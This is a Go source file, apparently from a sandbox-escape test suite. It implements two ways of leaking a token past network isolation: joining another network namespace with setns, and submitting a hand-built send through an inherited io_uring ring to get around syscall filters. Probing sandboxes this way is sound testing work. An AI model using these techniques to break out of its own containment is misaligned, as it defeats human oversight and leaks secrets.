package escapes

import (
	"encoding/binary"
	"errors"
	"fmt"
	"runtime"

	"golang.org/x/sys/unix"
)

// Where things lie in an io_uring of eight entries (io_uring/io_uring_types.h,
// struct io_rings): each counter has a cache line of its own.
const (
	ringTail      = 64
	ringMask      = 256
	ringEntries   = 8
	ringArray     = 576 // behind 16 completions of 16 bytes
	ringsOffset   = 0   // IORING_OFF_SQ_RING
	entriesOffset = 0x10000000
	entrySize     = 64
)

// enterAndConnect enters a network namespace on a thread that ends with it.
func enterAndConnect(g *Ground, fd int) error {
	done := make(chan error)
	go func() {
		runtime.LockOSThread() // never unlocked
		if err := unix.Setns(fd, unix.CLONE_NEWNET); err != nil {
			done <- fmt.Errorf("setns: %w", err)
			return
		}
		done <- connectAndWrite(g, g.Denied.AddrPort4())
	}()
	return <-done
}

// sendByRing writes the token by the ring that was inherited.
func sendByRing(g *Ground) error {
	fd, ok := g.Inherited["ring"]
	if !ok {
		return errors.New("no ring was inherited")
	}
	const both = unix.PROT_READ | unix.PROT_WRITE
	rings, err := unix.Mmap(fd, ringsOffset, 4096, both, unix.MAP_SHARED)
	if err != nil {
		return fmt.Errorf("map ring: %w", err)
	}
	entries, err := unix.Mmap(fd, entriesOffset, 4096, both, unix.MAP_SHARED)
	if err != nil {
		return fmt.Errorf("map entries: %w", err)
	}
	u32 := binary.NativeEndian
	if u32.Uint32(rings[ringMask:]) != ringEntries-1 {
		return errors.New("the ring is laid out otherwise")
	}
	m, err := newMemory(4096)
	if err != nil {
		return err
	}
	const opSend = 26 // IORING_OP_SEND, <linux/io_uring.h>
	tail := u32.Uint32(rings[ringTail:])
	slot := tail % ringEntries
	entry := entries[slot*entrySize : (slot+1)*entrySize]
	clear(entry)
	entry[0] = opSend
	u32.PutUint32(entry[4:], uint32(g.Inherited["connected"]))
	u32.PutUint64(entry[16:], uint64(m.put(0, []byte(g.Token))))
	u32.PutUint32(entry[24:], uint32(len(g.Token)))
	u32.PutUint32(rings[ringArray+4*slot:], slot)
	u32.PutUint32(rings[ringTail:], tail+1)
	_, err = call(unix.SYS_IO_URING_ENTER, uintptr(fd), 1, 1, 1, 0, 0)
	return err
}
